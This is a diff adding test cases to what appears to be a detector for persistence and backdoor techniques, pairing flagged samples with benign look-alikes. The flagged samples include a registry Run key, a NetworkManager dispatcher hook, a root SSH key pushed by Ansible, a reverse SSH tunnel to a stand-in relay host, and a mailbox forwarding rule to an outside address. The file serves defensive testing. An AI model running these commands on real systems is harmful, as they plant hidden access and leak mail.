@@ -4,6 +4,21 @@ import { scheduled, shellStart, ownStart, gitHooks, accounts } from './staying.t
 ruleCases(scheduled, {
   hits: [
     {
+      name: 'a program for every connection',
+      path: 'a.sh',
+      text: 'cp hook /etc/NetworkManager/dispatcher.d/90-a\n',
+    },
+    {
+      name: 'a timer in pieces, in Rust',
+      path: 'a.rs',
+      text: 'fn a() { let d = home.join(".config/systemd/user"); fs::write(d.join("a.timer"), "x"); }\n',
+    },
+    {
+      name: 'a file of the registry',
+      path: 'a.reg',
+      text: 'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n"A"="wscript.exe a.vbs"\n',
+    },
+    {
       name: 'a service without rights whose text is in the script, rated medium',
       path: 'a.sh',
       text: "cat > /etc/systemd/system/a.service <<'EOF'\n[Service]\nUser=app\nExecStart=/usr/bin/node server.js\nEOF\n",
@@ -76,6 +91,11 @@ ruleCases(scheduled, {
     },
   ],
   misses: [
+    {
+      name: 'a folder that Rust only lists',
+      path: 'a.rs',
+      text: 'fn a() { for e in fs::read_dir(home.join(".config/systemd/user")) {} }\n',
+    },
     {
       name: 'a service that is switched off',
       path: 'a.sh',
@@ -370,6 +390,24 @@ ruleCases(accounts, {
       severity: 'high',
     },
     {
+      name: 'a key by a tool of many machines',
+      path: 'site.yml',
+      severity: 'high',
+      text: '- hosts: all\n  tasks:\n    - ansible.posix.authorized_key: {user: root, key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHx0 ops"}\n',
+    },
+    {
+      name: 'a way in from outside',
+      path: 'a.sh',
+      severity: 'high',
+      text: 'ssh -f -N -R 2222:localhost:22 relay@up.acme.test\n',
+    },
+    {
+      name: 'mail that somebody else gets',
+      path: 'a.ps1',
+      severity: 'high',
+      text: 'New-InboxRule -Name "." -ForwardTo "a@up.acme.test"\n',
+    },
+    {
       name: 'a stricter server, rated low',
       path: 'a.sh',
       text: "printf 'PermitRootLogin no\\n' | sudo tee /etc/ssh/sshd_config.d/10.conf\n",
@@ -464,6 +502,11 @@ ruleCases(accounts, {
     },
   ],
   misses: [
+    {
+      name: 'a connection to here',
+      path: 'a.sh',
+      text: 'ssh -N -L 5432:localhost:5432 db.acme.test\n',
+    },
     {
       name: 'a user who cannot sign in',
       path: 'a.sh',
